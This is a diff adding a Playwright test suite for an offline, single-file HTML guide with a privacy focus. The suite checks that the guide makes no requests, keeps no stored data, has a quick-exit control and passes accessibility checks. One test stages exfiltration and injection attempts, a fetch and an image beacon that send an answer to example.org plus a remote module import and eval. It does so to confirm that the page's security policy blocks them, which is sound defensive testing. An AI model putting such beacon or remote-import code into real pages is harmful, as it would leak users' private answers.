@@ -1,0 +1,273 @@
+import { createHash } from 'node:crypto';
+import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { test as base, type Page } from '@playwright/test';
+import { gates } from '../content/gates.ts';
+import { localeIds } from '../content/locales.ts';
+import { type Answers, settle } from '../machines/path.ts';
+import { holds } from '../machines/truth.ts';
+import { personas } from '../tests/personas/index.ts';
+import { answersFor } from '../tests/personas/persona.ts';
+import { beekeeper, tellingMuch, veteran } from './answers.ts';
+import { expectAxeClean, expectNoSidewaysScroll } from './axe.ts';
+import { expectGuidanceFor } from './expected.ts';
+import { sheetsOf } from './pdf.ts';
+import { expect } from './test.ts';
+import { frame, press, say, walk } from './walk.ts';
+
+const nameOf = (locale: string) => `grounds.${locale}.html`;
+const pathOf = (locale: string) => join(process.cwd(), 'out', 'one-file', nameOf(locale));
+const addressOf = (locale: string) => pathToFileURL(pathOf(locale)).href;
+
+/** Nothing is asked for but the file itself, and nothing is tried that its policy forbids. */
+const test = base.extend<{ watch: { faults: string[]; requests: string[] } }>({
+  watch: [
+    async ({ context }, use, info) => {
+      info.setTimeout(240_000);
+      const watch = { faults: [] as string[], requests: [] as string[] };
+      await context.addInitScript(() => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => console.error(`forbidden by ${effectiveDirective}: ${blockedURI}`));
+      });
+      context.on('console', (message) => {
+        if (message.type() === 'error' || message.type() === 'warning') watch.faults.push(message.text());
+      });
+      context.on('weberror', (error) => watch.faults.push(String(error.error())));
+      context.on('request', (request) => watch.requests.push(request.url()));
+      await use(watch);
+      expect(watch.faults).toEqual([]);
+    },
+    { auto: true },
+  ],
+});
+
+async function openFile(page: Page, locale: string) {
+  await page.goto(addressOf(locale));
+  await expect(frame(page)).toHaveAttribute('data-screen', 'beginning');
+}
+
+/** The whole way by the page's own inputs and buttons, from within the page: quick enough for everybody. Gives back the screens. */
+const answerAll = (page: Page, answers: Answers) =>
+  page.evaluate(async (given) => {
+    const drawn = () => new Promise<void>((resolve) => setTimeout(resolve));
+    const shown = () => document.querySelector<HTMLElement>('[data-screen]') as HTMLElement;
+    const way: string[] = [];
+    for (;;) {
+      const screen = shown().dataset.screen ?? '';
+      way.push(screen);
+      if (screen === 'guided') return way;
+      if (way.length > 60) throw new Error(`The guide does not end: ${way.join(' → ')}`);
+      const questions = () => [...shown().querySelectorAll<HTMLElement>('.asked[id^="q-"]')];
+      const open = () => questions().filter((question) => !question.querySelector('input:checked'));
+      // A follow-up is there only once what it follows has been ticked.
+      for (let ticked = true; ticked; ) {
+        const inputs = [...shown().querySelectorAll<HTMLInputElement>('.asked[id^="q-"] input:not(:checked)')];
+        const next = inputs.sort((one, other) => (given[one.name] ?? []).indexOf(one.value) - (given[other.name] ?? []).indexOf(other.value)).find(({ name, value }) => given[name]?.includes(value));
+        next?.click();
+        await drawn();
+        ticked = !!next;
+      }
+      const before = shown().innerHTML;
+      const skip = questions().length > 0 && open().length > 0;
+      shown().querySelector<HTMLElement>(skip ? 'form .actions .textlink' : '.actions .button')?.click();
+      for (let waited = 0; shown().innerHTML === before && waited < 500; waited++) await drawn();
+    }
+  }, answers as Readonly<Record<string, readonly string[]>>);
+
+const kept = (page: Page) =>
+  page.evaluate(async () => ({
+    cookie: document.cookie,
+    local: Object.keys(localStorage),
+    session: Object.keys(sessionStorage),
+    databases: (await indexedDB.databases()).length,
+    caches: (await caches.keys().catch(() => [])).length,
+    tab: window.name,
+  }));
+const nothing = { cookie: '', local: [], session: [], databases: 0, caches: 0, tab: '' };
+
+/** Everything found for a person, by its ids: the same in every language. */
+const found = (page: Page) =>
+  page.locator('.guidance').evaluate((guidance) =>
+    ['ground', 'standing', 'element', 'row', 'referral', 'other', 'destination', 'policy', 'difference', 'step'].flatMap((name) =>
+      [...guidance.querySelectorAll(`[data-${name}]`)].map((one) => `${name} ${one.getAttribute(`data-${name}`)}`).sort(),
+    ),
+  );
+const isOutside = (answers: Answers) => gates.some(({ kind, when }) => kind === 'scope' && holds(when, settle(answers).facts) === true);
+
+const together = 8;
+for (let from = 0; from < personas.length; from += together) {
+  const group = personas.slice(from, from + together);
+  test(`the same findings as everywhere: ${group[0]?.id} to ${group.at(-1)?.id}`, async ({ page, watch }) => {
+    for (const persona of group) {
+      await test.step(persona.id, async () => {
+        const answers = answersFor(persona);
+        await openFile(page, 'en');
+        await answerAll(page, answers);
+        if (isOutside(answers)) await expect(page.locator('article[data-ground]')).toHaveCount(0);
+        else await expectGuidanceFor(page, answers);
+        const inEnglish = await found(page);
+        expect(inEnglish.length).toBeGreaterThan(0);
+        await openFile(page, 'ru');
+        await answerAll(page, answers);
+        expect(await found(page)).toEqual(inEnglish);
+      });
+    }
+    expect(new Set(watch.requests)).toEqual(new Set(localeIds.map(addressOf)));
+  });
+}
+
+for (const [locale, person, about] of [['en', beekeeper, 'me'], ['ru', veteran, 'other']] as const) {
+  test(`a whole walk, ${locale}: nothing requested, nothing kept, no address changed, no other page to go to`, async ({ page, watch }) => {
+    await openFile(page, locale);
+    await walk(page, person, {
+      about,
+      onScreen: async () => {
+        expect(await kept(page)).toEqual(nothing);
+        expect(page.url()).toBe(addressOf(locale));
+        await expect(page).toHaveTitle('Grounds');
+        const links = await page.locator('a[href], link[href]').evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? ''));
+        expect(links.filter((link) => !/^(https?:\/\/|#|about:blank$)/.test(link))).toEqual([]);
+      },
+    });
+    await expect(page.locator('html')).toHaveAttribute('lang', locale);
+    await expect(page.locator('h1')).toHaveText(say(locale, about)('ui.guidance.title'));
+    await expectGuidanceFor(page, person, about);
+    const places = await page.locator('a[href^="#"]').evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).hash.slice(1)));
+    expect(await page.evaluate((ids) => ids.filter((id) => !document.getElementById(id)), places)).toEqual([]);
+    expect(await page.locator('[data-source]').count()).toBeGreaterThan(20);
+    await page.goBack();
+    await expect(frame(page)).toHaveAttribute('data-screen', 'reviewing');
+    await page.goForward();
+    await expect(frame(page)).toHaveAttribute('data-screen', 'guided');
+    expect(watch.requests).toEqual([addressOf(locale)]);
+  });
+}
+
+test('what can be carried away is carried away from the file too: paper, text and answers', async ({ page, watch }) => {
+  await openFile(page, 'en');
+  await answerAll(page, beekeeper);
+  const sheets = sheetsOf(await page.pdf({ format: 'A4' })).map((sheet) => sheet.normalize('NFKC').replace(/\s+/g, ''));
+  expect(sheets.length).toBeGreaterThan(3);
+  for (const sheet of sheets) expect(sheet).toContain('notadecision');
+  expect(sheets.join('')).not.toContain(say('en')('take.inside.title').replace(/\s+/g, ''));
+
+  await page.evaluate(() => {
+    Object.defineProperty(navigator, 'clipboard', { configurable: true, value: undefined });
+  });
+  const way = (at: number) => page.locator('#take .take li').nth(at).getByRole('button');
+  await way(1).click();
+  await expect(page.locator('pre.plain-text')).toContainText(say('en')('ui.guidance.title'));
+  const [download] = await Promise.all([page.waitForEvent('download'), way(2).click()]);
+  expect(JSON.parse(readFileSync(await download.path(), 'utf8')).answers).toMatchObject(beekeeper);
+  expect(watch.requests.filter((url) => !url.startsWith('blob:'))).toEqual([addressOf('en')]);
+});
+
+for (const [how, leave] of [
+  ['by the button', (page: Page) => page.locator('[data-leave]').click()],
+  ['by Shift three times', async (page: Page) => {
+    for (let pressed = 0; pressed < 3; pressed++) await page.keyboard.press('Shift');
+  }],
+] as const) {
+  test(`the file is left at once, ${how}, and Back shows nothing that was asked`, async ({ page }) => {
+    await page.goto('about:blank#before');
+    await openFile(page, 'en');
+    await walk(page, tellingMuch, { until: 'service' });
+    await leave(page);
+    await expect(page).toHaveURL('about:blank');
+    await page.goBack();
+    await expect(page).toHaveURL('about:blank#before');
+  });
+}
+
+test('it opens from a folder with spaces and Russian letters, renamed', async ({ page, watch }) => {
+  const folder = mkdtempSync(join(tmpdir(), 'grounds-'));
+  try {
+    const at = join(folder, 'Мои загрузки (2)', 'файл с флешки #1.html');
+    mkdirSync(join(at, '..'));
+    copyFileSync(pathOf('ru'), at);
+    await page.goto(pathToFileURL(at).href);
+    await expect(frame(page)).toHaveAttribute('data-screen', 'beginning');
+    await answerAll(page, beekeeper);
+    await expectGuidanceFor(page, beekeeper);
+    await press(page, 'ui.take.forget');
+    expect(await kept(page)).toEqual(nothing);
+    expect(watch.requests).toEqual([pathToFileURL(at).href]);
+  } finally {
+    rmSync(folder, { recursive: true });
+  }
+});
+
+for (const locale of localeIds) {
+  test(`axe in both colour schemes, and no wider than 320 px, ${locale}`, async ({ page }) => {
+    await openFile(page, locale);
+    await expectNoSidewaysScroll(page);
+    await expectAxeClean(page);
+    await answerAll(page, locale === 'en' ? beekeeper : veteran);
+    await page.setViewportSize({ width: 320, height: 640 });
+    await expectNoSidewaysScroll(page);
+    await expectAxeClean(page);
+  });
+
+  test(`without script the file says what to do, and is readable, ${locale}`, async ({ browser }) => {
+    const context = await browser.newContext({ javaScriptEnabled: false });
+    const page = await context.newPage();
+    await page.goto(addressOf(locale));
+    const instead = await page.locator('main noscript').evaluate((it) => ({ says: it.textContent, tall: it.getBoundingClientRect().height > 50 }));
+    expect(instead).toEqual({ says: expect.stringContaining(say(locale)('take.inside.no-script')), tall: true });
+    await expect(page.locator('.needs-script')).toBeHidden();
+    await expect(page.getByText(say(locale)('take.inside.p2'))).toBeVisible();
+    await expect(page.getByText(say(locale)('pages.safety.helplines.title'))).toBeVisible();
+    await context.close();
+  });
+
+  test(`the page that offers the files says of both what is true, and hands them out, ${locale}`, async ({ page }) => {
+    await page.goto(`/${locale}/take/`);
+    for (const id of localeIds) {
+      const file = readFileSync(pathOf(id));
+      const told = (what: string) => page.locator(`[data-one-file="${nameOf(id)}"][data-says="${what}"]`);
+      expect(((await told('bytes').textContent()) ?? '').replace(/\D/g, '')).toBe(String(file.length));
+      await expect(told('kilobytes')).toHaveText(String(Math.round(file.length / 1000)));
+      await expect(told('sha256')).toHaveText(createHash('sha256').update(file).digest('hex'));
+      const [download] = await Promise.all([page.waitForEvent('download'), page.locator(`a[download="${nameOf(id)}"]`).click()]);
+      expect(download.suggestedFilename()).toBe(nameOf(id));
+      expect(readFileSync(await download.path()).equals(file)).toBe(true);
+    }
+  });
+}
+
+test('even a script in the file could send nothing away, run no text and write no markup', async ({ page, watch }) => {
+  await openFile(page, 'en');
+  const refused = await page.evaluate(async () => {
+    const tries: Record<string, () => unknown> = {
+      fetch: () => fetch('https://example.org/?answer=1'),
+      image: () =>
+        new Promise((resolve, reject) => {
+          const image = new Image();
+          image.onload = resolve;
+          image.onerror = reject;
+          image.src = 'https://example.org/?answer=1';
+        }),
+      markup: () => {
+        document.createElement('div').innerHTML = '<b>x</b>';
+      },
+      text: () => new Function('return 1')(),
+      script: () => {
+        document.createElement('script').src = 'other.js';
+      },
+      module: () => import(/* @vite-ignore */ String('https://example.org/other.js')),
+    };
+    const refused: string[] = [];
+    for (const [name, attempt] of Object.entries(tries)) {
+      try {
+        await attempt();
+      } catch {
+        refused.push(name);
+      }
+    }
+    return refused;
+  });
+  expect(refused).toEqual(['fetch', 'image', 'markup', 'text', 'script', 'module']);
+  for (const directive of ['connect-src', 'img-src', 'script-src-elem']) expect(watch.faults.filter((fault) => fault.startsWith(`forbidden by ${directive}`))).toHaveLength(1);
+  watch.faults.length = 0;
+});
